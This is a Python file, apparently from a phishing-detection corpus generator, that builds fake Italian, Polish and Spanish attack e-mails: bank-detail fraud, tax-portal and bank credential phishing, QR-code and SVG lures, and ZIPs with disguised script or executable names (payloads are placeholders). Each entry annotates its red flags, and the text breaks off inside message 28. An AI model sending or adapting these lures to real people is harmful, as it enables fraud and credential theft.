"""Attack messages 17-31 (Italian 17-21, Polish 22-26, Spanish 27-31)."""
from kit import *
from business_it_pl_es import B22_MSGID, B22_REPLY_MSGID

A = 'attack'


def svg_lure(title_lines, button, url, color='#0b5394'):
    y = 150
    txt = []
    for i, (s, size, weight) in enumerate(title_lines):
        txt.append('<text x="60" y="%d" font-family="Arial, Helvetica, sans-serif" font-size="%d" font-weight="%s" fill="#222">%s</text>'
                   % (y, size, weight, esc(s)))
        y += size + 14
    return ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="%d" viewBox="0 0 820 %d">\n'
            '<rect width="820" height="%d" fill="#f4f6f8"/>\n<rect x="30" y="30" width="760" height="%d" fill="#ffffff" stroke="#d0d7de"/>\n'
            '<rect x="30" y="30" width="760" height="70" fill="%s"/>\n%s\n'
            '<a xlink:href="%s" href="%s" target="_blank">\n<rect x="60" y="%d" width="300" height="52" rx="4" fill="%s"/>\n'
            '<text x="210" y="%d" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="18" font-weight="bold" fill="#ffffff">%s</text>\n</a>\n</svg>\n'
            % (y + 140, y + 140, y + 140, y + 80, color, '\n'.join(txt), esc(url), esc(url), y + 20, color, y + 53, esc(button)))


def messages():
    out = []

    # ------------------------------------------------------------------ 17 it carrier bank change (look-alike)
    iban = C.it_iban('03268', '01600', '052871934210')   # Banca Sella
    p = """Gentile Dott.ssa Russo,

con la presente Vi comunichiamo che, a seguito di una verifica fiscale attualmente in corso sul nostro conto presso Intesa Sanpaolo, l'Amministrazione ha disposto di appoggiare temporaneamente tutti gli incassi sul conto aziendale indicato di seguito:

Beneficiario: Ferretti Trasporti S.p.A.
Banca: Banca Sella S.p.A. – Filiale di Milano
IBAN: %s
BIC/SWIFT: SELBIT2BXXX

Vi chiediamo cortesemente di aggiornare la Vostra anagrafica fornitori e di indicarci la data prevista di pagamento delle seguenti fatture, già scadute:

- Fattura n. 2026/1184 del 30/09/2026 – € 4.118,40
- Fattura n. 2026/1207 del 09/10/2026 – € 3.224,40

In allegato trovate la comunicazione firmata dal nostro Amministratore Delegato. Per ragioni di riservatezza legate alla verifica in corso, Vi preghiamo di non contattare la filiale Intesa Sanpaolo e di gestire ogni comunicazione esclusivamente via e-mail con la sottoscritta.

Ringraziando per la collaborazione, porgiamo cordiali saluti.

Chiara Colombo
Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 18 – 37135 Verona
P.IVA %s
""" % (C.grp(iban), org.FERRETTI_PIVA)
    pdfl = [('#', 'FERRETTI TRASPORTI S.p.A.'), "Via dell'Industria 18 - 37135 Verona - P.IVA " + org.FERRETTI_PIVA, '', '',
            'Spett.li Clienti', '', 'Verona, 02/11/2026', '', ('b', 'Oggetto: variazione coordinate bancarie'), '',
            'Con la presente si comunica che, con decorrenza immediata, tutti i pagamenti a favore',
            'di Ferretti Trasporti S.p.A. dovranno essere effettuati esclusivamente sul seguente conto:', '',
            'Banca Sella S.p.A. - Filiale di Milano', 'IBAN ' + C.grp(iban), 'BIC SELBIT2BXXX', '',
            'I pagamenti effettuati su coordinate diverse non saranno considerati liberatori.', '',
            'Distinti saluti', '', "L'Amministratore Delegato", 'Roberto Ferretti']
    out.append(M(name='17-it-carrier-bank-change-lookalike', folder=A, lang='it', t=T(11, 3, 8, 14, 27),
                 mailer=I.postfix('mail.ferrettitrasporti.it', 'vps-4f1a2b3c.vps.ovh.net', '51.75.142.19',
                                  submit=('DESKTOP-7K2M1QF', 'unknown', '102.89.47.15'), auth='c.colombo@ferrettitrasporti.it',
                                  msgid='outlook16', boundary='nextpart', xmailer='Microsoft Outlook 16.0',
                                  hdr_charset='windows-1252', hdr_enc='Q',
                                  extra=[('Thread-Index', I.thread_index('17ti', T(11, 3, 8, 14, 27))), ('Content-Language', 'it')]),
                 frm=('Chiara Colombo', 'c.colombo@ferrettitrasporti.it'), to=[st('francesca.russo')],
                 rcpt='francesca.russo@example.com',
                 subject='Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.',
                 body=multi('mixed', alt(p, 'windows-1252', style='outlook', lang='IT'),
                            att_pdf('Comunicazione_variazione_IBAN_Ferretti.pdf', pdfl, title='Variazione coordinate',
                                    author='Amministrazione', creator='Microsoft Word', producer='Microsoft: Print To PDF',
                                    date="D:20261102180411+01'00'")),
                 what='"Ferretti Trasporti" asks to pay two overdue invoices to a new account because of a "tax inspection"',
                 why='Vendor bank-detail fraud: look-alike domain ferrettitrasporti.it (real: ferretti-trasporti.it) on an OVH VPS with Outlook-style headers, submitted from an overseas IP; bizarre "tax inspection" pretext, tells the victim not to contact the bank, e-mail-only contact. The genuine carrier writes from Aruba and states that bank details are unchanged (business 17).',
                 technique='Carrier bank-detail change, look-alike domain on VPS, PDF letter',
                 pairs=['17-it-carrier-payment-reminder-suspension']))

    # ------------------------------------------------------------------ 18 it SdI notice with SVG (compromised Aruba account)
    url = 'https://ivaservizi.agenziaentrate-fatture.com/ser/sdi/notifica?id=18472093351&c=09743150964'
    p = """AGENZIA DELLE ENTRATE
Servizio Fatture e Corrispettivi - Sistema di Interscambio

Oggetto: notifica di mancata consegna - fattura elettronica n. 2026/1219 del 19/11/2026

Cedente/prestatore: FERRETTI TRASPORTI S.P.A. - P.IVA %s
Cessionario/committente: EXAMPLE GROUP ITALIA S.R.L. - P.IVA %s
Identificativo SdI: 18472093351

Il Sistema di Interscambio non è riuscito a recapitare la fattura elettronica in oggetto al canale telematico indicato (codice destinatario non attivo). Il file è stato messo a disposizione nell'area riservata del cessionario.

Per evitare la sospensione della detrazione IVA relativa al documento è necessario confermare i dati del canale di ricezione entro 5 giorni lavorativi. Il dettaglio della notifica e il collegamento all'area riservata sono riportati nel documento allegato.

Questo messaggio è generato automaticamente, si prega di non rispondere.
""" % (org.FERRETTI_PIVA, org.EG_IT_PIVA)
    svg = svg_lure([('Agenzia delle Entrate – Fatture e Corrispettivi', 22, 'bold'),
                    ('Notifica di mancata consegna – Identificativo SdI 18472093351', 16, 'normal'),
                    ('Fattura n. 2026/1219 del 19/11/2026 – FERRETTI TRASPORTI S.P.A.', 16, 'normal'),
                    ('Per visualizzare il documento accedere con SPID, CIE o credenziali Entratel.', 15, 'normal')],
                   'Apri la notifica', url, '#06357a')
    out.append(M(name='18-it-sdi-notice-svg-attachment', folder=A, lang='it', t=T(11, 25, 6, 52, 8),
                 mailer=I.aruba(client_ip='196.251.73.40', client_name='[127.0.0.1]', xmailer=None, msgid='hex',
                                boundary='roundcube'),
                 frm=('Agenzia delle Entrate - Fatture e Corrispettivi', 'amministrazione@studiorinaldi-geometri.it'),
                 to=[st('francesca.russo')], rcpt='francesca.russo@example.com',
                 subject='Notifica di mancata consegna fattura elettronica n. 2026/1219 - Identificativo SdI 18472093351',
                 body=multi('mixed', text(p, 'ISO-8859-15', 'quoted-printable'),
                            attachment('image/svg+xml', 'Notifica_SdI_18472093351.svg', svg.encode('utf-8'))),
                 what='"Agenzia delle Entrate / SdI" says an e-invoice could not be delivered; details in an SVG',
                 why='Credential phishing: mailbox of an unrelated surveyors\' office (Aruba account abused from an African VPS) with the tax agency as display name; SdI does not e-mail recipients like this and there is no "VAT deduction suspension"; the SVG attachment is a clickable image linking to agenziaentrate-fatture.com (look-alike). References a real invoice number sent the week before (business 18).',
                 technique='SVG attachment with link, tax/e-invoicing (SdI) lure, compromised Aruba mailbox',
                 pairs=['18-it-carrier-einvoice-courtesy-copy']))

    # ------------------------------------------------------------------ 19 it bank (Intesa Inbiz) via Brevo
    url = 'https://inbiz-aggiornamento.intesasanpaolo-imprese.com/okey?c=EGI-4471'
    p = """Intesa Sanpaolo Inbiz

Gentile Cliente,

dal 1° dicembre 2026 l'accesso a Inbiz e l'autorizzazione delle disposizioni saranno possibili solo con il nuovo profilo di sicurezza O-Key Smart collegato all'app Intesa Sanpaolo Business.

Dai nostri controlli risulta che per l'utenza associata a EXAMPLE GROUP ITALIA S.R.L. l'aggiornamento non è ancora stato completato. Senza aggiornamento, dal 1° dicembre non sarà possibile autorizzare bonifici, F24 e distinte SEPA.

L'operazione richiede circa 3 minuti:
Aggiorna il profilo di sicurezza: %s

Ti ricordiamo che Intesa Sanpaolo non ti chiederà mai le credenziali al telefono.

Cordiali saluti,
Intesa Sanpaolo – Servizio Clienti Imprese
""" % url
    out.append(M(name='19-it-bank-inbiz-okey-phishing-brevo', folder=A, lang='it', t=T(11, 16, 7, 19, 44),
                 mailer=I.brevo(ip='77.32.148.31'),
                 frm=('Intesa Sanpaolo Inbiz', 'notifiche@inbiz-sicurezza.it'), to=[('', 'francesca.russo@example.com')],
                 rcpt='francesca.russo@example.com',
                 subject='Inbiz: aggiorna il profilo di sicurezza O-Key entro il 30/11',
                 body=alt(p),
                 what='"Intesa Sanpaolo Inbiz" demands an O-Key security profile update before 1 December',
                 why='Bank credential phishing via an abused Brevo account from the look-alike domain inbiz-sicurezza.it; deadline and threat to block payments, link to intesasanpaolo-imprese.com (not intesasanpaolo.com).',
                 technique='Bank phishing (Intesa Sanpaolo business banking), bulk ESP (Brevo)',
                 pairs=[]))

    # ------------------------------------------------------------------ 20 it fake brand collaboration (Gmail, encrypted ZIP with .exe)
    p = """Buongiorno Giulia,

sono Valentina Greco, Partnership Manager di Lumière Cosmetics (Parigi/Milano). Stiamo selezionando un'agenzia in Italia per il lancio della nostra nuova linea skincare nella primavera 2027: influencer marketing (10-12 creator tra Instagram e TikTok), contenuti social e un evento stampa a Milano a fine marzo.

Abbiamo visto i vostri lavori per Caseificio Valtellina e ci piacerebbe ricevere una vostra proposta. Il budget indicativo è di 180.000 € più produzione.

In allegato trovate il brief completo, le linee guida del brand e le tempistiche. Per motivi di riservatezza (il prodotto non è ancora stato annunciato) l'archivio è protetto: la password è LUM2027

Sarebbe possibile ricevere un primo feedback entro venerdì? Se preferite, possiamo fissare una call conoscitiva la prossima settimana.

Grazie e buona giornata,
Valentina Greco
Partnership Manager – Lumière Cosmetics
"""
    z = att_zip('Lumiere_Brief_Primavera2027.zip',
                [('Lumiere_Brief_Primavera2027/Brief_Campagna_Primavera_2027.pdf.exe', PLACEHOLDER),
                 ('Lumiere_Brief_Primavera2027/Brand_Guidelines.docx.exe', PLACEHOLDER)],
                password='LUM2027', when=(2026, 10, 8, 11, 30, 0), seed='20zip')
    out.append(M(name='20-it-fake-brand-collaboration-encrypted-zip', folder=A, lang='it', t=T(10, 8, 8, 44, 51),
                 mailer=I.gmail(host='mail-wr1-f66.google.com', ip='209.85.221.66'),
                 frm=('Valentina Greco | Lumière Cosmetics', 'valentina.greco.lumiere@gmail.com'),
                 to=[st('giulia.bianchi')], rcpt='giulia.bianchi@example.com',
                 subject='Proposta di collaborazione – lancio skincare Primavera 2027',
                 body=multi('mixed', alt(p, 'UTF-8', style='gmail'), z),
                 what='Cosmetics brand invites the agency to pitch; brief in a password-protected ZIP',
                 why='Fake brand-collaboration lure (infostealer delivery common against agencies and creators): a "partnership manager" on Gmail, attractive budget, encrypted ZIP (ZipCrypto, password in the mail) containing .pdf.exe / .docx.exe double-extension files.',
                 technique='Fake client brief, password-protected ZIP with executables, freemail (Gmail)',
                 pairs=[]))

    # ------------------------------------------------------------------ 21 it fake RFQ from look-alike customer (plain ZIP with .js)
    p = """Buongiorno Marco,

come anticipato al telefono dal nostro direttore commerciale, vi inviamo la richiesta di preventivo per le attività di Natale (affissioni in Lombardia, social e materiali per i punti vendita).

Nell'archivio allegato trovate la richiesta d'offerta, il listino aggiornato e i quantitativi per punto vendita. Il file Excel contiene delle macro per il calcolo dei totali: se richiesto, abilitate il contenuto.

Avremmo bisogno della vostra offerta entro giovedì, così da poterla presentare al CdA venerdì mattina.

Grazie mille,
Roberta Galli
Responsabile Marketing
Caseificio Valtellina S.r.l.
"""
    z = att_zip('RDO_Natale2026_Caseificio_Valtellina.zip',
                [('RDO_Natale2026_listino_e_quantitativi.xlsx.js', PLACEHOLDER)],
                when=(2026, 12, 2, 15, 20, 0), seed='21zip', ctype='application/x-zip-compressed')
    out.append(M(name='21-it-fake-rfq-lookalike-customer-zip', folder=A, lang='it', t=T(12, 2, 14, 26, 3),
                 mailer=I.postfix('mail.caseificio-valtellina.it', 'static.62.231.201.95.clients.your-server.de',
                                  '95.201.231.62', msgid='outlook16', boundary='nextpart', xmailer='Microsoft Outlook 16.0',
                                  hdr_charset='windows-1252', hdr_enc='Q', extra=[('Content-Language', 'it')]),
                 frm=('Roberta Galli', 'r.galli@caseificio-valtellina.it'), to=[st('marco.ricci')],
                 rcpt='marco.ricci@example.com',
                 subject='Richiesta preventivo campagna Natale - listino e quantitativi',
                 body=multi('mixed', alt(p, 'windows-1252', style='outlook', lang='IT'), z),
                 what='Client "Caseificio Valtellina" sends a request for quotation as a ZIP archive',
                 why='Malware delivery by customer impersonation: look-alike caseificio-valtellina.it (real: caseificiovaltellina.it, which sends from its M365 tenant) on a Hetzner server posing as Outlook; the ZIP holds a JScript file disguised as an Excel sheet (.xlsx.js); text primes the victim to "enable content"; deadline pressure.',
                 technique='Fake RFQ, ZIP attachment with script (.xlsx.js), look-alike customer domain on VPS',
                 pairs=['19-it-client-complaint-billboard-error']))

    # ------------------------------------------------------------------ 22 pl KSeF token phishing (compromised SMB, home.pl)
    url = 'https://ksef-aplikacja-podatnika.weryfikacja-mf.pl/token?nip=%s' % org.EG_PL_NIP
    p = """Szanowni Państwo,

informujemy, że token autoryzacyjny wygenerowany w Krajowym Systemie e-Faktur dla podmiotu EXAMPLE GROUP POLSKA SP. Z O.O. (NIP %s) wygasa z dniem 30.11.2026 r.

W związku z obowiązkowym stosowaniem KSeF od 1 kwietnia 2026 r. wygaśnięcie tokenu uniemożliwi wystawianie faktur oraz odbieranie faktur zakupowych. Faktury, które nie zostaną odebrane, nie stanowią podstawy do odliczenia VAT.

Aby zachować ciągłość pracy, prosimy o ponowne uwierzytelnienie w Aplikacji Podatnika KSeF przed upływem terminu:

%s

Uwierzytelnienie jest możliwe za pomocą profilu zaufanego, podpisu kwalifikowanego lub danych logowania do bankowości elektronicznej.

Z poważaniem
Krajowy System e-Faktur
Ministerstwo Finansów
""" % (C.pl_nip_fmt(org.EG_PL_NIP), url)
    out.append(M(name='22-pl-ksef-token-phishing-compromised-smb', folder=A, lang='pl', t=T(11, 23, 5, 33, 17),
                 mailer=I.postfix('serwer2298471.home.pl', 'serwer2298471.home.pl', '46.242.240.77',
                                  submit=('[10.8.0.6]', 'unknown', '185.107.56.221'), auth='biuro@agro-mat-serwis.pl',
                                  msgid='outlook16', boundary='nextpart', xmailer='Microsoft Outlook 16.0',
                                  hdr_charset='windows-1250', hdr_enc='Q', extra=[('Content-Language', 'pl')]),
                 frm=('KSeF - powiadomienia', 'biuro@agro-mat-serwis.pl'), to=[st('malgorzata.wisniewska')],
                 rcpt='malgorzata.wisniewska@example.com',
                 subject='KSeF: wygaśnięcie tokenu autoryzacyjnego - wymagane ponowne uwierzytelnienie',
                 body=alt(p, 'windows-1250', style='outlook', lang='PL'),
                 what='"KSeF / Ministry of Finance" says the e-invoicing token expires; re-authenticate via link',
                 why='Credential phishing on Poland\'s mandatory e-invoicing system: sent from the hijacked mailbox of an unrelated agricultural-machinery firm (home.pl account, submitted through a VPN IP); link to weryfikacja-mf.pl (not gov.pl) asking for Profil Zaufany or online-banking credentials; false VAT-deduction threat.',
                 technique='E-invoicing (KSeF) / tax-office lure, compromised small-business mailbox',
                 pairs=['22-pl-partner-logistik-invoice-ksef']))

    # ------------------------------------------------------------------ 23 pl thread hijack, encrypted ZIP with .js
    p = """Dzień dobry Pani Małgorzato,

w nawiązaniu do Pani wiadomości przesyłamy fakturę korygującą do FV/2026/11/0412 wraz z zestawieniem palet za listopad. Korekta dotyczy składowania 14 palet naliczonych omyłkowo.

Ze względu na dane osobowe w zestawieniu (RODO) plik został zabezpieczony hasłem: PL0412

Prosimy o potwierdzenie otrzymania.

Pozdrawiamy
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Składowa 9, 61-897 Poznań

W dniu 1.12.2026 o 11:47, Małgorzata Wiśniewska pisze:
> Dzień dobry,
>
> na fakturze FV/2026/11/0412 składowanie naliczono za 32 palety, a według naszego zestawienia w listopadzie było ich 18. Proszę o sprawdzenie i ewentualną korektę.
>
> Pozdrawiam
> Małgorzata Wiśniewska
> Example Group Polska sp. z o.o.
"""
    z = att_zip('Korekta_FV_2026_11_0412.zip', [('Korekta_FV_2026_11_0412.pdf.js', PLACEHOLDER)],
                password='PL0412', when=(2026, 12, 3, 9, 55, 0), seed='23zip')
    out.append(M(name='23-pl-thread-hijack-partner-encrypted-zip', folder=A, lang='pl', t=T(12, 3, 9, 8, 36),
                 mailer=I.postfix('serwer2411882.home.pl', 'serwer2411882.home.pl', '46.242.245.147',
                                  submit=('[192.168.1.102]', 'unknown', '91.92.251.17'), auth='ksiegowosc@partner-logistik.pl',
                                  msgid='thunderbird', boundary='thunderbird', ua='Mozilla Thunderbird',
                                  order=I.THUNDERBIRD_ORDER, extra=[('Content-Language', 'pl')], hdr_enc='Q'),
                 frm=('Partner Logistik - Księgowość', 'ksiegowosc@partner-logistik.pl'),
                 to=[st('malgorzata.wisniewska')], rcpt='malgorzata.wisniewska@example.com',
                 subject='Re: Faktura FV/2026/11/0412 - magazynowanie i dystrybucja materiałów POS, listopad 2026',
                 in_reply_to=B22_REPLY_MSGID, references=[B22_MSGID, B22_REPLY_MSGID],
                 body=multi('mixed', text(p, 'ISO-8859-2', 'quoted-printable', quote_charset=False), z),
                 what='Logistics partner replies in the invoice thread with a "correction invoice" in an encrypted ZIP',
                 why='Thread hijack from the partner\'s genuinely compromised mailbox (same home.pl server as its real mail, but submitted from a foreign IP): answers the accountant\'s real query, then delivers a ZipCrypto archive with a .pdf.js script; corrections must be issued in KSeF and Partner Logistik never sends encrypted archives (business 22).',
                 technique='Thread hijack from compromised partner mailbox, password-protected ZIP with .js',
                 pairs=['22-pl-partner-logistik-invoice-ksef']))

    # ------------------------------------------------------------------ 24 pl tax office quishing (Mailgun)
    qurl = 'https://podatki-gov.pl.e-us-pisma.com/odbior?id=1471-SPV.4012.2217.2026&nip=' + org.EG_PL_NIP
    p = """e-Urząd Skarbowy

Szanowny Podatniku,

w Twojej skrzynce w e-Urzędzie Skarbowym znajduje się nowe pismo dotyczące podmiotu EXAMPLE GROUP POLSKA SP. Z O.O. (NIP %s):

Wezwanie do zapłaty zaległości w podatku od towarów i usług za okres 08/2026 wraz z odsetkami za zwłokę – kwota 3 418,00 zł.
Sygnatura: 1471-SPV.4012.2217.2026

Pismo należy odebrać w ciągu 7 dni. Nieodebrane pismo uznaje się za doręczone, a po upływie terminu sprawa może zostać przekazana do egzekucji administracyjnej.

Ze względów bezpieczeństwa dostęp do pisma jest możliwy wyłącznie z urządzenia mobilnego. Zeskanuj aparatem telefonu kod QR z załącznika i zaloguj się do e-Urzędu Skarbowego.

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.
Krajowa Administracja Skarbowa
""" % org.EG_PL_NIP
    h = page('e-Urząd Skarbowy', """<div style="max-width:600px;margin:0 auto;font-family:Arial,sans-serif;color:#1b1b1b">
<div style="background:#d4213d;color:#fff;padding:14px 20px;font-size:18px;font-weight:bold">e-Urząd Skarbowy</div>
<div style="padding:20px;border:1px solid #ddd">
<p>Szanowny Podatniku,</p>
<p>w Twojej skrzynce w e-Urzędzie Skarbowym znajduje się nowe pismo dotyczące podmiotu <b>EXAMPLE GROUP POLSKA SP. Z O.O.</b> (NIP %s):</p>
<p style="background:#f5f5f5;padding:12px"><b>Wezwanie do zapłaty zaległości w podatku od towarów i usług za okres 08/2026 wraz z odsetkami za zwłokę – kwota 3&nbsp;418,00&nbsp;zł.</b><br>Sygnatura: 1471-SPV.4012.2217.2026</p>
<p>Pismo należy odebrać w ciągu <b>7 dni</b>. Nieodebrane pismo uznaje się za doręczone, a po upływie terminu sprawa może zostać przekazana do egzekucji administracyjnej.</p>
<p>Ze względów bezpieczeństwa dostęp do pisma jest możliwy wyłącznie z urządzenia mobilnego. <b>Zeskanuj aparatem telefonu kod QR z załącznika</b> i zaloguj się do e-Urzędu Skarbowego.</p>
<p style="font-size:11px;color:#666">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.<br>Krajowa Administracja Skarbowa</p>
</div></div>""" % org.EG_PL_NIP)
    out.append(M(name='24-pl-tax-office-quishing-mailgun', folder=A, lang='pl', t=T(10, 16, 7, 2, 40),
                 mailer=I.mailgun('mg.e-urzad-skarbowy.info', ip='159.135.224.77'),
                 frm=('e-Urząd Skarbowy', 'powiadomienia@e-urzad-skarbowy.info'), to=[st('pawel.kowalczyk')],
                 rcpt='pawel.kowalczyk@example.com',
                 subject='Nowe pismo w e-Urzędzie Skarbowym - wezwanie do zapłaty zaległości VAT',
                 body=multi('mixed', alt(p, html_body=h), qr_png(qurl, 'kod_QR_pismo_1471-SPV.png')),
                 what='"e-Urząd Skarbowy" reports a VAT arrears letter that can only be opened by scanning a QR code',
                 why='Quishing: tax-office look-alike domain sent through Mailgun; the QR code hides a link to podatki-gov.pl.e-us-pisma.com (sub-domain trick); "mobile only" to move the victim off the protected PC; threat of enforcement. Real e-US notices come from gov.pl and never use QR codes.',
                 technique='Quishing (QR code as PNG attachment), tax-office lure, bulk ESP (Mailgun)',
                 pairs=[]))

    # ------------------------------------------------------------------ 25 pl fake WeTransfer (VPS)
    url = 'https://wetransfer.com-download.files-pl.net/d/8f3c1a0e9b/?email=pawel.kowalczyk%40example.com'
    p = """Poligrafia Nowak przesyła Ci pliki

4 pliki, łącznie 286 MB · Wygasa za 7 dni

Projekty_kalendarze_2027_final.pdf
Katalog_Koster_PL_korekta3.pdf
Etykiety_Zimowa_Edycja.ai
Faktura_proforma_PN-2026-1184.pdf

Wiadomość:
Dzień dobry, w załączeniu finalne pliki do akceptacji przed drukiem. Prosimy o informację do wtorku. Pozdrawiam, Krzysztof Nowak

Pobierz pliki: %s

Aby zapewnić bezpieczeństwo plików, pobranie wymaga potwierdzenia adresu e-mail odbiorcy.

WeTransfer · Oosterdoksstraat 114, 1011 DK Amsterdam
""" % url
    h = page('WeTransfer', """<table width="560" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif;color:#17181a">
<tr><td style="padding:30px 0;font-size:24px;font-weight:bold">we<span style="color:#409fff">transfer</span></td></tr>
<tr><td style="font-size:24px;font-weight:bold">Poligrafia Nowak przesyła Ci pliki</td></tr>
<tr><td style="padding:10px 0 20px;color:#6a6d70">4 pliki, łącznie 286 MB · Wygasa za 7 dni</td></tr>
<tr><td style="padding-bottom:20px"><a href="%s" style="background:#409fff;color:#fff;padding:14px 34px;border-radius:24px;text-decoration:none;font-weight:bold">Pobierz pliki</a></td></tr>
<tr><td style="border-top:1px solid #e8e8e8;padding:16px 0;font-size:14px">Projekty_kalendarze_2027_final.pdf<br>Katalog_Koster_PL_korekta3.pdf<br>Etykiety_Zimowa_Edycja.ai<br>Faktura_proforma_PN-2026-1184.pdf</td></tr>
<tr><td style="font-size:14px;padding-bottom:20px"><b>Wiadomość:</b><br>Dzień dobry, w załączeniu finalne pliki do akceptacji przed drukiem. Prosimy o informację do wtorku. Pozdrawiam, Krzysztof Nowak</td></tr>
<tr><td style="font-size:11px;color:#8c8f92">Aby zapewnić bezpieczeństwo plików, pobranie wymaga potwierdzenia adresu e-mail odbiorcy.<br>WeTransfer · Oosterdoksstraat 114, 1011 DK Amsterdam</td></tr></table>""" % esc(url))
    out.append(M(name='25-pl-fake-wetransfer-print-files', folder=A, lang='pl', t=T(11, 13, 11, 41, 15),
                 mailer=I.postfix('mail.wetransfer-mail.net', 'vmi2466019.contaboserver.net', '164.68.121.203',
                                  msgid='phpmailer', boundary='phpmailer',
                                  xmailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
                 frm=('WeTransfer', 'noreply@wetransfer-mail.net'), to=[('', 'pawel.kowalczyk@example.com')],
                 rcpt='pawel.kowalczyk@example.com',
                 subject='Poligrafia Nowak przesyła Ci pliki: Projekty_kalendarze_2027_final.pdf i 3 inne',
                 body=alt(p, html_body=h),
                 what='"WeTransfer" notification that the print house sent calendar proofs and a pro-forma',
                 why='Brand impersonation of a file-transfer service agencies use daily: sender wetransfer-mail.net on a Contabo VPS (PHPMailer), download link to wetransfer.com-download.files-pl.net (sub-domain trick) asking to "confirm the e-mail", i.e. a credential page. Genuine WeTransfer mail comes from wetransfer.com and links to we.tl (business 26).',
                 technique='File-sharing brand impersonation (WeTransfer), credential link, VPS',
                 pairs=['26-pl-wetransfer-genuine-print-files']))

    # ------------------------------------------------------------------ 26 pl bank (PKO BP iPKO biznes) via SES
    url = 'https://ipkobiznes-autoryzacja.pl/login?firma=EGPL&ref=SCA2026'
    p = """Szanowni Państwo,

w związku z wdrożeniem nowych zasad silnego uwierzytelniania (SCA) w bankowości elektronicznej dla firm, od 15 grudnia 2026 r. zlecenia w iPKO biznes będzie można autoryzować wyłącznie w aplikacji mobilnej PKO Biznes.

Dla użytkownika przypisanego do firmy EXAMPLE GROUP POLSKA SP. Z O.O. nie potwierdzono jeszcze nowego sposobu autoryzacji. Po 15 grudnia przelewy, paczki przelewów i płatności do ZUS oraz US oczekujące na autoryzację zostaną odrzucone.

Potwierdzenie zajmuje kilka minut:
Potwierdź użytkownika: %s

Pamiętaj: PKO Bank Polski nigdy nie prosi o podanie kodów jednorazowych w wiadomości e-mail.

Z poważaniem
Zespół iPKO biznes
PKO Bank Polski S.A.
""" % url
    out.append(M(name='26-pl-bank-ipko-biznes-phishing-ses', folder=A, lang='pl', t=T(12, 8, 6, 12, 9),
                 mailer=I.ses(ip='54.240.6.113'),
                 frm=('PKO Bank Polski', 'komunikaty@pkobp-biznes.com.pl'), to=[('', 'malgorzata.wisniewska@example.com')],
                 rcpt='malgorzata.wisniewska@example.com',
                 subject='iPKO biznes: potwierdź nowy sposób autoryzacji do 15.12.2026',
                 body=alt(p),
                 what='"PKO BP iPKO biznes" asks to confirm the user for a new authorisation method',
                 why='Business-banking credential phishing from the look-alike pkobp-biznes.com.pl via Amazon SES; deadline and threat of rejected transfers; link to ipkobiznes-autoryzacja.pl instead of ipkobiznes.pl.',
                 technique='Bank phishing (PKO BP business banking), Amazon SES',
                 pairs=[]))

    # ------------------------------------------------------------------ 27 es AEAT notification, Dropbox ZIP link (compromised host)
    url = 'https://www.dropbox.com/scl/fi/%s/Notificacion_AEAT_2026GRC48127340.zip?rlkey=%s&dl=1' % (hx('27a', 21, 'abcdefghijklmnopqrstuvwxyz0123456789'), hx('27b', 25, 'abcdefghijklmnopqrstuvwxyz0123456789'))
    p = """AGENCIA TRIBUTARIA
Sede electrónica

Estimado/a contribuyente:

Le informamos de que tiene a su disposición una notificación en la Dirección Electrónica Habilitada única (DEHú) relativa al procedimiento de comprobación limitada del Impuesto sobre el Valor Añadido, ejercicio 2026, tercer trimestre, del obligado tributario EXAMPLE GROUP IBERIA S.L. (NIF %s).

Referencia: 2026GRC48127340
Fecha de puesta a disposición: 26/10/2026

Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo sin que se haya accedido, la notificación se entenderá practicada (art. 43 de la Ley 39/2015).

Descargue la notificación y el requerimiento de documentación:
%s

Agencia Estatal de Administración Tributaria
""" % (org.EG_ES_CIF, url)
    out.append(M(name='27-es-tax-agency-notification-dropbox-zip', folder=A, lang='es', t=T(10, 26, 7, 3, 29),
                 mailer=I.exim('cp5012.webempresa.eu', '185.245.86.40', 'cp5012.webempresa.eu', '194.26.29.113',
                               'WIN-8QLKB72HF1M', 'notificaciones@clinicadental-sanroman.es',
                               boundary='phpmailer', tz='CET'),
                 frm=('Agencia Tributaria', 'notificaciones@clinicadental-sanroman.es'), to=[st('lucia.fernandez')],
                 rcpt='lucia.fernandez@example.com',
                 subject='Notificación electrónica disponible - Ref. 2026GRC48127340',
                 body=text(p, 'iso-8859-1', 'quoted-printable'),
                 what='"Agencia Tributaria" announces a VAT audit notification; download a ZIP from Dropbox',
                 why='Malware delivery: sent from a hijacked dental-clinic mailbox on shared hosting, impersonating the tax agency; genuine DEHú notices are retrieved by logging in to the Sede/DEHú, never as a ZIP on Dropbox (abused genuine file hosting); legal-deadline pressure.',
                 technique='Tax-agency lure, archive download via abused Dropbox link, compromised shared hosting',
                 pairs=[]))

    # ------------------------------------------------------------------ 28 es VERI*FACTU via Brevo
    url = 'https://verifactu-certificacion.es/activar?nif=' + org.EG_ES_CIF
    p = """Estimado cliente:

A partir del 1 de enero de 2027 todas las sociedades que utilicen sistemas informáticos de facturación deberán emitir sus facturas con un software adaptado al Reglamento VERI*FACTU (Real Decreto 1007/2023). El uso de sistemas no adaptados puede dar lugar a sanciones de hasta 50.000 euros por ejercicio (art. 201 bis de la Ley General Tributaria).

Según nuestros registros, el sistema de facturación asociado al NIF %s (EXAMPLE GROUP IBERIA S.L.) aún no dispone del certificado de adaptación. Para evitar la interrupción de la emisión de facturas, active el certificado antes del 15 de diciembre:

Activar certificado VERI*FACTU: %s

Necesitará el usuario y la contraseña de su cuenta corporativa de Microsoft 365 o de su programa de facturación.

Atentamente,
Departamento de Soporte VERI*FACTU
""" % (org.EG_ES_CIF, url)
    out.append(M(name='28-es-verifactu-certificate-phishing-brevo', folder=A, lang='es', t=T(12, 9, 8, 40, 21),
                 mailer=I.brevo(ip='77.32.148.57'),
                 frm=('Soporte VERI*FACTU', 'soporte@verifactu-certificacion.es'), to=[('', 'javier.martin@example.com')],
                 rcpt='javier.martin@example.com',
                 subject='Obligatorio antes del 1 de enero: active su certificado VERI*FACTU',
                 body=alt(p),
